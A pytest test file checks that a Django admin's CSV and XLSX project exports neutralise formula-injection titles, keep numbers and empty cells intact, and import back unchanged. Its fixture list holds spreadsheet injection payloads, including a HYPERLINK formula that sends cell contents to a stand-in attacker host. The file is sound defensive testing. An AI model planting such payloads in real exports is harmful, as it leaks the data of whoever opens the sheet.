"""A project title a spreadsheet program would run as a formula is neutralised in the admin's
CSV and XLSX exports, numbers and empty cells stay as they are, and an export imports back
unchanged."""

import csv
import io
from decimal import Decimal

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl.utils.escape import unescape

from projects.models import Country, Project
from tests.factories import make_area, make_countries, make_project

CSV_FORMAT, XLSX_FORMAT = "0", "1"
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
DANGEROUS_TITLES = [HYPERLINK, "+1+1 cmd", "-2+3 cmd", "@SUM(A1)", "\tTabbed", "\rReturned"]

pytestmark = pytest.mark.django_db


@pytest.fixture
def projects():
    make_countries()
    where = {"countries": Country.objects.filter(slug="china"), "areas": [make_area()]}
    made = [
        make_project("draft", slug=f"dangerous-{i}", title=title, **where)
        for i, title in enumerate(DANGEROUS_TITLES)
    ]
    made.append(
        make_project(
            "draft",
            slug="numbers",
            title="Numbers",
            latitude=Decimal("-12.5"),
            longitude=Decimal("102.6"),
            funding_amount=Decimal("1250000.50"),
            funding_currency="USD",
            place_name="",
            **where,
        )
    )
    return made


def export(client, admin_name, file_format):
    """Posts the export form as the changelist's Export button opens it, every column ticked."""
    url = reverse(f"admin:{admin_name}_export")
    form = client.get(url).context["form"]
    data = {name: form[name].value() for name in form.fields if name != "export_items"}
    response = client.post(url, {**data, "format": file_format})
    assert response.status_code == 200
    return response


def csv_rows(response):
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))


def xlsx_cells(response):
    """Each row's cells by column name."""
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    header, *rows = list(sheet.iter_rows())
    names = [cell.value for cell in header]
    return [dict(zip(names, row, strict=True)) for row in rows]


def reimport(client, admin_name, response, file_format):
    """Uploads an export unchanged, then confirms the dry run."""
    name = "export.csv" if file_format == CSV_FORMAT else "export.xlsx"
    upload = SimpleUploadedFile(name, response.content)
    dry_run = client.post(
        reverse(f"admin:{admin_name}_import"), {"import_file": upload, "format": file_format}
    )
    assert "confirm_form" in dry_run.context, dry_run.context["result"].invalid_rows
    form = dry_run.context["confirm_form"]
    confirm = {name: form[name].value() for name in form.fields}
    client.post(reverse(f"admin:{admin_name}_process_import"), confirm)
    return dry_run.context["result"]


def titles_by_slug(model):
    return dict(model.objects.values_list("slug", "title"))


def test_csv_export_puts_an_apostrophe_before_each_formula_title(staff_client, projects):
    rows = csv_rows(export(staff_client, "projects_project", CSV_FORMAT))

    titles = {row["slug"]: row["title"] for row in rows}
    for i, title in enumerate(DANGEROUS_TITLES):
        assert titles[f"dangerous-{i}"] == "'" + title


def test_csv_export_leaves_numbers_and_empty_cells_as_they_are(staff_client, projects):
    rows = csv_rows(export(staff_client, "projects_project", CSV_FORMAT))

    [numbers] = [row for row in rows if row["slug"] == "numbers"]
    assert Decimal(numbers["latitude"]) == Decimal("-12.5")
    assert Decimal(numbers["longitude"]) == Decimal("102.6")
    assert Decimal(numbers["funding_amount"]) == Decimal("1250000.50")
    assert numbers["place_name"] == numbers["end_date"] == ""


def test_xlsx_export_writes_each_formula_title_as_a_string_cell(staff_client, projects):
    rows = xlsx_cells(export(staff_client, "projects_project", XLSX_FORMAT))

    titles = {row["slug"].value: row["title"] for row in rows}
    for i, title in enumerate(DANGEROUS_TITLES):
        cell = titles[f"dangerous-{i}"]
        # A carriage return is stored as _x000D_, as the format writes it.
        assert (cell.data_type, unescape(cell.value)) == ("s", title)


def test_xlsx_export_leaves_numbers_and_empty_cells_as_they_are(staff_client, projects):
    rows = xlsx_cells(export(staff_client, "projects_project", XLSX_FORMAT))

    [numbers] = [row for row in rows if row["slug"].value == "numbers"]
    assert (numbers["latitude"].data_type, numbers["latitude"].value) == ("n", -12.5)
    assert numbers["funding_amount"].value == 1250000.5
    assert numbers["place_name"].value is None
    assert numbers["end_date"].value is None


@pytest.mark.parametrize("file_format", [CSV_FORMAT, XLSX_FORMAT])
def test_an_export_imports_back_unchanged(staff_client, projects, file_format):
    before = titles_by_slug(Project)
    exported = export(staff_client, "projects_project", file_format)

    result = reimport(staff_client, "projects_project", exported, file_format)

    assert result.totals["skip"] == len(before)
    assert titles_by_slug(Project) == before
